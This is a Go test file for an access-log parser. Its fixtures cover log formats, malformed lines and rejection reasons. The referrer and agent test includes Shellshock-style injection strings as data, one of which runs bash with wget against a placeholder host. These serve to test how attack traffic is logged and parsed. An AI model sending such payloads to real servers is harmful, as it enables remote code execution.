package accesslog

import (
	"strings"
	"testing"
)

const (
	tokyo  = "[10/Mar/2024:08:30:00 +0900]" // 2024-03-09 23:30:00 UTC
	tokyoT = 1710027000
)

// base is the record that most lines of these tests are about.
func base(change func(*Record)) Record {
	r := Record{Time: tokyoT, Offset: 9 * 3600, IP: "192.0.2.7", Vhost: "-", URL: "/a", Ref: "-", UA: "-", User: "-", ServedMicros: -1,
		Method: "GET", Proto: "HTTP/1.1", Status: 200, Bytes: 123}
	if change != nil {
		change(&r)
	}
	return r
}

// check parses a line and compares the whole record.
func check(t *testing.T, p Parser, line string, want Record) {
	t.Helper()
	var got Record
	if err := p.Parse(line, &got); err != nil {
		t.Errorf("%s\nunread: %v", line, err)
		return
	}
	if got != want {
		t.Errorf("%s\ngot  %+v\nwant %+v", line, got, want)
	}
}

func reject(t *testing.T, p Parser, line string, want Reason) {
	t.Helper()
	var r Record
	if err := p.Parse(line, &r); err != want {
		t.Errorf("%q\ngot  %v (%+v)\nwant %v", line, err, r, want)
	}
}

func TestParse_ReadsEachFormatOfTheFamily(t *testing.T) {
	tail := tokyo + ` "GET /a HTTP/1.1" 200 123`
	agents := ` "http://www.example.org/" "Agent/1.0 (x; y)"`
	plain := func(r *Record) {}
	withAgents := func(r *Record) { r.Ref, r.UA = "http://www.example.org/", "Agent/1.0 (x; y)" }
	withVhost := func(r *Record) { r.Vhost = "www.example.org" }
	for _, c := range []struct {
		name, line string
		changes    []func(*Record)
	}{
		{"common", `192.0.2.7 - - ` + tail, nil},
		{"combined", `192.0.2.7 - - ` + tail + agents, []func(*Record){withAgents}},
		{"vhost common", `www.example.org 192.0.2.7 - - ` + tail, []func(*Record){withVhost}},
		{"vhost combined", `WWW.Example.org 192.0.2.7 - - ` + tail + agents, []func(*Record){withVhost, withAgents}},
		{"vhost:port", `www.example.org:8443 192.0.2.7 - - ` + tail + agents, []func(*Record){withVhost, withAgents}},
		{"ancestor", `192.0.2.7 Www.Example.Org - ` + tail + agents, []func(*Record){withVhost, withAgents}},
		{"Twisted's quoted client", `"192.0.2.7" - - ` + tail + agents, []func(*Record){withAgents}},
		{"several spaces", `192.0.2.7  -   - ` + strings.ReplaceAll(tail, " 200 ", "  200  ") + "  ", []func(*Record){plain}},
		{"carriage return", `192.0.2.7 - - ` + tail + "\r", nil},
		{"no user", `192.0.2.7 - ` + tail, nil},
		{"vhost without ident", `www.example.org 192.0.2.7 - ` + tail, []func(*Record){withVhost}},
	} {
		want := base(nil)
		for _, change := range c.changes {
			change(&want)
		}
		t.Run(c.name, func(t *testing.T) { check(t, Parser{}, c.line, want) })
	}
}

func TestParse_SkipsAndCountsTrailingFields(t *testing.T) {
	for _, extra := range []string{` "-"`, ` 0.012`, ` "203.0.113.5, 198.51.100.2" 0.012 -`, ` "a \" b" x`,
		` rt=0.003 uct="0.000" uht="0.002" urt="0.002, 0.1"`, ` x-cache.a="" k=`} {
		p := Parser{}
		var r Record
		line := `192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 123 "-" "Agent"`
		if err := p.Parse(line+extra, &r); err != nil || r.UA != "Agent" || !p.last.trailing {
			t.Errorf("%s: ua %q, trailing %v, %v", extra, r.UA, p.last.trailing, err)
		}
		if p.Parse(line, &r); p.last.trailing {
			t.Error("a line without more fields counts as trailing")
		}
	}
	p := Parser{}
	var r Record
	if err := p.Parse(`192.0.2.7 - - `+tokyo+` "GET /a HTTP/1.1" 200 123 0.5`, &r); err != nil || r.UA != "-" || !p.last.trailing {
		t.Errorf("common with a trailing field: %+v %v", r, err)
	}
}

func TestParse_ReadsRequestsOfEverySort(t *testing.T) {
	for _, c := range []struct{ request, method, url, proto string }{
		{`GET / HTTP/1.1`, "GET", "/", "HTTP/1.1"},
		{`GET /a b HTTP/1.1`, "GET", "/a b", "HTTP/1.1"},
		{`GET /a  b c HTTP/2.0`, "GET", "/a  b c", "HTTP/2.0"},
		{`GET  /a  HTTP/1.1`, "GET", "/a", "HTTP/1.1"},
		{`GET /a`, "GET", "/a", ""},
		{`GET /a b c`, "GET", "/a b c", ""},
		{`REQMOD icap://icap.example.net/s?x=1 ICAP/1.0`, "REQMOD", "icap://icap.example.net/s?x=1", "ICAP/1.0"},
		{`OPTIONS * HTTP/1.0`, "OPTIONS", "*", "HTTP/1.0"},
		{`M-SEARCH * HTTP/1.1`, "M-SEARCH", "*", "HTTP/1.1"},
		{`CONNECT www.example.org:443 HTTP/1.1`, "CONNECT", "www.example.org:443", "HTTP/1.1"},
		{``, "", "-", ""},
		{`-`, "", "-", ""},
		{`GET`, "", "GET", ""},
		{`GET `, "", "GET ", ""},
		{`\x16\x03\x01 \x00`, "", `\x16\x03\x01 \x00`, ""},
		{"\x16\x03\xff raw", "", "\x16\x03\xff raw", ""},
		{`SSH-2.0-Go`, "", "SSH-2.0-Go", ""},
		{`t3 12.1.2`, "", "t3 12.1.2", ""},
		{`GET /?q=\"a\" HTTP/1.1`, "GET", `/?q=\"a\"`, "HTTP/1.1"},
		{`GET /?q="a" HTTP/1.1`, "GET", `/?q="a"`, "HTTP/1.1"},
		{`GET /a" 404 HTTP/1.1`, "GET", `/a" 404`, "HTTP/1.1"},
		{`GET /a[1] "b" HTTP/1.1`, "GET", `/a[1] "b"`, "HTTP/1.1"},
		{`GET /a\`, "GET", `/a\`, ""},
		{`GET /` + strings.Repeat("x", 70000) + ` HTTP/1.1`, "GET", "/" + strings.Repeat("x", 70000), "HTTP/1.1"},
	} {
		want := base(func(r *Record) { r.Method, r.URL, r.Proto = c.method, c.url, c.proto })
		check(t, Parser{}, `192.0.2.7 - - `+tokyo+` "`+c.request+`" 200 123 "-" "-"`, want)
		check(t, Parser{}, `192.0.2.7 - - `+tokyo+` "`+c.request+`" 200 123`, want)
	}
}

func TestParse_KeepsQuotesAndEscapesInReferrerAndAgent(t *testing.T) {
	for _, c := range []struct{ ref, ua string }{
		{``, ``},
		{``, `Agent`},
		{`-`, `() { :; }; /bin/bash -c \"wget 192.0.2.1\"`},
		{`-`, `() { :; }; echo "x"`},
		{`-`, `() { :; }; echo "x" done`},
		{`() { :; }; echo "x"`, `() { :; }; echo "x" "`},
		{`http://www.example.org/?q="a"b`, `"Agent"`},
		{`http://www.example.org/?q=\"a\" b`, `\xe4\xe5\\`},
		{`ends in one \`, `ends in one \`},
		{"raw \x1b[31m \xff", "raw \x00 \xfe"},
		{`-`, `torn agent"203.0.113.9 - - ` + tokyo + ` "GET / HTTP/1.1" 200 1 "-" "and the next line`},
	} {
		want := base(func(r *Record) { r.Ref, r.UA = c.ref, c.ua })
		check(t, Parser{}, `192.0.2.7 - - `+tokyo+` "GET /a HTTP/1.1" 200 123 "`+c.ref+`" "`+c.ua+`"`, want)
	}
	check(t, Parser{}, `192.0.2.7 - - `+tokyo+` "GET /a HTTP/1.1" 200 123 "-" "echo "x" y" 0.5`,
		base(func(r *Record) { r.UA = `echo "x" y` }))
}

func TestParse_ReadsBytesDashAndStatus(t *testing.T) {
	check(t, Parser{}, `192.0.2.7 - - `+tokyo+` "GET /a HTTP/1.1" 304 -`,
		base(func(r *Record) { r.Status, r.Bytes = 304, -1 }))
	check(t, Parser{}, `192.0.2.7 - - `+tokyo+` "GET /a HTTP/1.1" 999 9223372036854775797`,
		base(func(r *Record) { r.Status, r.Bytes = 999, 9223372036854775797 }))
}

func TestParse_NamesTheReasonOfAnUnreadLine(t *testing.T) {
	for _, c := range []struct {
		line string
		want Reason
	}{
		{"", EmptyLine},
		{" \t\r", EmptyLine},
		{`[Thu Dec 19 12:02:47.288843 2024] [proxy:error] [pid 22:tid 1] [client 192.0.2.7:60250] text`, NoTime},
		{`2024/12/19 12:02:47 [error] 22#22: *1 open() "/x" failed, client: 192.0.2.7`, NoTime},
		{`192.0.2.7 - - [10/Mar/2024:08:30:00 +09`, NoTime},
		{`192.0.2.7 - -`, NoTime},
		{tokyo + ` "GET / HTTP/1.1" 200 1`, NoClient},
		{`192.0.2.7 - - [25/Oct/2026:0198.51.100.3 - - ` + tokyo + ` "GET / HTTP/1.1" 200 1`, TwoLines},
		{`999.0.2.7 - - ` + tokyo + ` "GET / HTTP/1.1" 200 1`, NoClient},
		{`192.0.2.07 - - ` + tokyo + ` "GET / HTTP/1.1" 200 1`, NoClient},
		{`192.0.2 - - ` + tokyo + ` "GET / HTTP/1.1" 200 1`, NoClient},
		{`- - - ` + tokyo + ` "GET / HTTP/1.1" 200 1`, NoClient},
		{`<b> - - ` + tokyo + ` "GET / HTTP/1.1" 200 1`, NoClient},
		{`2001:db8::1::2 - - ` + tokyo + ` "GET / HTTP/1.1" 200 1`, NoClient},
		{`192.0.2.7 - - ` + tokyo, NoRequest},
		{`192.0.2.7 - - ` + tokyo + ` GET / HTTP/1.1`, NoRequest},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTT`, OpenRequest},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a"b`, NoStatus},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1"`, NoStatus},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 20`, NoStatus},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 0x0 5`, NoStatus},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 2000 5`, NoStatus},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" - 5`, NoStatus},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200`, NoBytes},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 12x`, NoBytes},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 99999999999999999999`, NoBytes},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 12 "http://www.exa`, OpenReferrer},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 12 "-"`, NoAgent},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 12 "-" "`, OpenAgent},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 12 "-" "Mozilla/5.0 (compat`, OpenAgent},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 12 "-" "echo \"x\" and more`, OpenAgent},
		{`192.0.2.7 - - ` + tokyo + ` "GET /torn203.0.113.9 - - ` + tokyo + ` "GET /b HTTP/1.1" 200 12`, OpenRequest},
		{`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 12 203.0.113.9 - - ` + tokyo + ` "GET /b HTTP/1.1" 200 12`, TwoLines},
	} {
		reject(t, Parser{}, c.line, c.want)
	}
}

func TestParse_AllocatesNothing(t *testing.T) {
	var p Parser
	var r Record
	lines := []string{
		`192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 123 "-" "Agent"`,
		`2001:db8::7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 123 "-" "echo \"x\""`,
		`::ffff:192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 123 "-" "echo \"x\""`,
		`www.example.org:443 192.0.2.7 - - ` + tokyo + ` "GET /a HTTP/1.1" 200 123 "-" "Agent"`,
		`192.0.2.7 - - ` + tokyo + ` "GET /a HT`,
	}
	allocs := testing.AllocsPerRun(100, func() {
		for _, line := range lines {
			p.Parse(line, &r)
		}
	})
	if allocs != 0 {
		t.Errorf("%v allocations for %d lines", allocs, len(lines))
	}
}

func TestParse_StatusIsAnyThreeDigits(t *testing.T) {
	for text, want := range map[string]int{"000": 0, "009": 9, "200": 200, "999": 999} {
		var p Parser
		var r Record
		if err := p.Parse(`192.0.2.7 - - `+tokyo+` "GET /a HTTP/1.1" `+text+` 5`, &r); err != nil || r.Status != want {
			t.Errorf("%s: status %d, %v", text, r.Status, err)
		}
	}
}
